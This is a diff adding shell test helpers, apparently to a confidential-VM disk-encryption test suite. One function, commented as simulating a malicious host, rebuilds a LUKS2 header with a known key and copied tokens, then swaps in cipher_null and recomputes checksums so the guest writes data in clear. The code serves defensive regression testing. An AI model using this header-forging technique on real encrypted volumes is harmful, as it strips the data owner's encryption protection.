@@ -132,3 +132,56 @@ vm_blank_disk() {
 }
 
 vm_sha() { sha256sum "$1" | cut -d' ' -f1; }
+
+# luks2_fix_checksums IMG: recompute the SHA-256 checksum of both LUKS2
+# header copies after their JSON was edited in place.
+luks2_fix_checksums() {
+	local img=$1 hdr_size off sum
+	hdr_size=$((16#$(dd if="$img" bs=1 skip=8 count=8 status=none | xxd -p)))
+	for off in 0 "$hdr_size"; do
+		printf '\0%.0s' $(seq 64) | dd of="$img" bs=1 seek=$((off + 448)) conv=notrunc status=none
+		sum=$(dd if="$img" bs=4096 skip=$((off / 4096)) count=$((hdr_size / 4096)) status=none |
+			sha256sum | cut -d' ' -f1)
+		echo "$sum" | xxd -r -p | dd of="$img" bs=1 seek=$((off + 448)) conv=notrunc status=none
+	done
+}
+
+# vm_cipher_null_rebuild IMG KEYFILE: what a malicious host does to a keyd
+# volume (CVE-2025-59054 class): a brand-new LUKS2 header with the same UUID
+# and data offset, a key the host knows, the victim's keyd token(s) copied
+# over, and cipher_null for the data segment and the keyslot - so that any
+# passphrase "opens" it and the guest writes its state in clear.
+# cryptsetup refuses cipher_null without kernel crypto, so the header is
+# made with AES by cryptsetup and the cipher names are then swapped in the
+# JSON (same length) with fresh checksums.
+vm_cipher_null_rebuild() {
+	local img=$1 keyfile=$2 uuid offset toks t
+	uuid=$(cryptsetup luksUUID "$img")
+	offset=$(cryptsetup luksDump --dump-json-metadata "$img" |
+		sed -n 's/.*"segments":{"0":{[^}]*"offset":"\([0-9]*\)".*/\1/p')
+	toks=$(mktemp -d)
+	for t in $(seq 0 31); do
+		cryptsetup token export --token-id "$t" "$img" >"$toks/$t.json" 2>/dev/null || rm -f "$toks/$t.json"
+	done
+	cryptsetup luksFormat -q --type luks2 --uuid "$uuid" --offset $((offset / 512)) \
+		--sector-size 4096 --cipher aes-xts-plain64 --key-size 512 \
+		--pbkdf pbkdf2 --pbkdf-force-iterations 1000 --key-file "$keyfile" "$img" || return 1
+	for t in "$toks"/*.json; do
+		[ -e "$t" ] || continue
+		sed 's/"keyslots":\[[^]]*\]/"keyslots":["0"]/' "$t" |
+			cryptsetup token import --json-file - --token-id "$(basename "$t" .json)" "$img" || return 1
+	done
+	rm -rf "$toks"
+	local hdr_size
+	hdr_size=$((16#$(dd if="$img" bs=1 skip=8 count=8 status=none | xxd -p)))
+	perl -e '
+		my ($img, $len) = @ARGV;
+		open(my $fh, "+<:raw", $img) or die;
+		for my $off (0, $len) {
+			seek($fh, $off + 4096, 0); read($fh, my $js, $len - 4096);
+			$js =~ s/aes-xts-plain64/cipher_null-ecb/g;
+			seek($fh, $off + 4096, 0); print $fh $js;
+		}
+		close($fh);' "$img" "$hdr_size"
+	luks2_fix_checksums "$img"
+}
